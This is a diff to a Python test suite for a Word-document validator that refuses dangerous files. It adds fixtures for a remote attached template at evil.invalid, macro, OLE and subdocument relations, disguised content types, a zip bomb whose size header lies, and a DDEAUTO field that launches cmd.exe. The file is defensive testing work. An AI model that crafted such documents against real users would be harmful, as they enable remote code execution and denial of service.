@@ -163,10 +163,26 @@ def test_what_is_no_word_file_is_refused(raw: bytes, said: str) -> None:
     assert said in problems(raw)
 
 
-def _rels(kind: str, target: str, mode: str = "External") -> bytes:
-    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-    one = f'<Relationship Id="rX" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
-    return swapped("</Relationships>", one, "word/_rels/document.xml.rels")
+BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+ONE = '<Relationship Id="rX" Type="{}/{}" Target="{}" TargetMode="{}"/>'
+OUTSIDE = RELATIONS.format(ONE.format(BASE, "attachedTemplate", "http://evil.invalid/t.dotm", "External")).encode()
+
+
+def _rels(kind: str, target: str, mode: str = "External", *, of: str = "document") -> bytes:
+    one, name = ONE.format(BASE, kind, target, mode), f"word/_rels/{of}.xml.rels"
+    return changed(
+        office.default_template(FORM),
+        lambda parts: (
+            parts | {name: parts.get(name, RELATIONS.format("").encode()).replace(b"</Relat", f"{one}</Relat".encode())}
+        ),
+    )
+
+
+def _disguised(name: str, kind: str) -> bytes:
+    told = f'<Override PartName="/{name}" ContentType="application/vnd.openxmlformats-officedocument.{kind}"/></Types>'
+    raw = swapped("</Types>", told, "[Content_Types].xml")
+    return changed(raw, lambda parts: parts | {name: b"<a/>"})
 
 
 def _field(*pieces: str) -> bytes:
@@ -193,6 +209,15 @@ def _field(*pieces: str) -> bytes:
         ),
         (lambda: _rels("attachedTemplate", "http://evil.invalid/t.dotm"), "附加模板“http://evil.invalid/t.dotm”"),
         (lambda: _rels("attachedTemplate", "file.dotm", "Internal"), "附加模板"),
+        (lambda: _rels("attachedTemplate", "http://evil.invalid/t.dotm", of="settings"), "附加模板"),
+        (lambda: added("word/_rels/settings.xml.RELS", OUTSIDE), "附加模板"),
+        (lambda: added("word/_rels/header9.xml.rels", OUTSIDE), "附加模板"),
+        (lambda: _rels("aFChunk", "chunk.html", "Internal"), "外来内容"),
+        (lambda: _rels("subDocument", "part.docx", "Internal"), "子文档"),
+        (lambda: _rels("vbaProject", "harmless.bin", "Internal"), "宏"),
+        (lambda: _rels("oleObject", "harmless.bin", "Internal"), "外部对象"),
+        (lambda: _disguised("word/header9.dat", "wordprocessingml.header+xml"), "类型与名称不符"),
+        (lambda: _disguised("word/harmless.dat", "ms-office.vbaProject"), "类型与名称不符"),
         (lambda: _rels("image", "http://evil.invalid/x.png"), "外部图片"),
         (lambda: _rels("hyperlink", "http://evil.invalid/"), "超链接"),
         (lambda: _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "DDEAUTO"),
@@ -226,6 +251,14 @@ def test_too_many_members_or_too_much_unpacked_is_refused() -> None:
         office.default_template(FORM), lambda parts: parts | {f"x/{n}": b"\0" * 1_000_000 for n in range(70)}
     )
     assert "解压后过大" in problems(heavy)
+
+
+def test_a_member_that_understates_its_size_is_refused() -> None:
+    raw = bytearray(added("word/media/bomb.bin", b"\0" * 20_000_000))
+    at = raw.rindex(b"word/media/bomb.bin") - 46
+    assert raw[at : at + 4] == b"PK\x01\x02"
+    raw[at + 24 : at + 28] = (10).to_bytes(4, "little")
+    assert "不是有效的 Word 文档" in problems(bytes(raw))
 
 
 def test_locked_members_are_refused() -> None:
